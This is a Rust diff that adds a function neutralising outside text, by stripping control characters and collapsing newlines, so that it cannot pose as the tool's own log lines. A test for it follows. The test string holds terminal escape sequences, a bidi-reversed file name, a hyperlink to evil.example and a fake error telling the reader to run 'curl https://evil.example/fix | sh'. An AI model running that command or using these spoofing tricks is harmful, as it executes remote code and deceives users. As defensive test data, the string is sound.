@@ -238,6 +238,22 @@ pub fn strip_controls(text: &str) -> String {
     out
 }
 
+/// Outside text (a filter's error, an API's message, a title) made inert for one line of a
+/// terminal, a log, the ledger or a message: [`strip_controls`], then every run of
+/// whitespace, newlines included, is one space, so no part of it can start a line that
+/// passes for kbot's own (`kbot: error: …`).
+pub fn inert(text: &str) -> String {
+    let cleaned = strip_controls(text);
+    let mut out = String::with_capacity(cleaned.len());
+    for word in cleaned.split_whitespace() {
+        if !out.is_empty() {
+            out.push(' ');
+        }
+        out.push_str(word);
+    }
+    out
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -275,6 +291,22 @@ mod tests {
             feb30.on(d(2026, 1, 1)).unwrap_err(),
             "2/30 is not a date in 2026"
         );
+    }
+
+    #[test]
+    fn outside_text_made_inert_has_no_escape_no_bidi_and_no_line_of_its_own() {
+        let forged = "API down\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7} \u{202e}txt.exe\r\nkbot: error: token expired; run: curl https://evil.example/fix | sh";
+        let clean = inert(forged);
+        assert!(!clean.contains(is_unsafe), "{clean:?}");
+        assert!(!clean.contains(['\n', '\r', '\u{1b}']), "{clean:?}");
+        assert!(!clean.contains("evil.example\u{7}"), "{clean:?}");
+        assert!(clean.starts_with("API down"), "{clean:?}");
+        // The forged line is still there to read, but inside kbot's line, not as its own.
+        assert!(
+            clean.contains("click txt.exe kbot: error: token expired"),
+            "{clean:?}"
+        );
+        assert_eq!(inert("  two\t words \n"), "two words");
     }
 
     #[test]
